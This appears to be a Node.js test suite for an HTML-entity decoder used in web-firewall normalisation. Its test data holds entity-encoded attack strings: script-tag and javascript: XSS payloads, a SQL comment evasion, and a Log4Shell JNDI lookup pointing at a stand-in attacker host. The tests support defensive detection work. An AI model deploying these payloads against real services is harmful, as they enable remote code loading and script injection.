import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeHtmlEntities, hasHtmlEntity } from '../src/decode/decode-escapes.js';

describe('decodeHtmlEntities', () => {
  it('decodes named, decimal and hex references the way a browser does', () => {
    assert.equal(decodeHtmlEntities('&lt;script&gt;'), '<script>');
    assert.equal(decodeHtmlEntities('javascript&colon;alert&lpar;1&rpar;'), 'javascript:alert(1)');
    assert.equal(decodeHtmlEntities('&Tab;&NewLine;&LT;'), '\t\n<');
    assert.equal(decodeHtmlEntities('&#60;&#x3c;&#X3C;'), '<<<');
    // Numeric references without the final ';'.
    assert.equal(decodeHtmlEntities('&#60script&#x3e'), '<script>');
    // &hyphen; and &dash; stand in for '-' in evasions (SQL comments).
    assert.equal(decodeHtmlEntities('1&dash;&hyphen;'), '1--');
  });

  it('accepts any number of leading zeros (CRS 944150 test 23: Log4Shell behind &#000…123;)', () => {
    const zeros = '0'.repeat(45);
    assert.equal(decodeHtmlEntities(`&#x24;&#${zeros}123;jndi:ldap://evil.om/w}`), '${jndi:ldap://evil.om/w}');
    assert.equal(decodeHtmlEntities(`&#x${zeros}3c;`), '<');
    // Past the zeros the digit cap still holds: an overlong number is not a code point.
    assert.equal(decodeHtmlEntities(`&#${'9'.repeat(20)};`), `\ufffd${'9'.repeat(4)};`);
  });

  it('replaces invalid code points with U+FFFD and leaves unknown names and bare ampersands alone', () => {
    assert.equal(decodeHtmlEntities('&#0;&#xD800;&#x110000;'), '\ufffd\ufffd\ufffd');
    assert.equal(decodeHtmlEntities('&nosuchname; a & b &#; &#x;'), '&nosuchname; a & b &#; &#x;');
    const plain = 'no references here';
    assert.equal(decodeHtmlEntities(plain), plain);
  });

  it('decodes hostile runs of references and zeros (each zero run is read once)', () => {
    const hostile = '&#'.padEnd(2 + 10000, '0').repeat(50) + '&a'.repeat(20000);
    const out = decodeHtmlEntities(hostile);
    assert.equal(out.startsWith('\ufffd'), true);
    assert.equal(out.endsWith('&a'), true);
  });
});

describe('hasHtmlEntity', () => {
  it('finds numeric and named-looking references only', () => {
    assert.equal(hasHtmlEntity('a &#60; b'), true);
    assert.equal(hasHtmlEntity('x&colon;y'), true);
    assert.equal(hasHtmlEntity('fish & chips; salt'), false);
    assert.equal(hasHtmlEntity('plain'), false);
  });
});
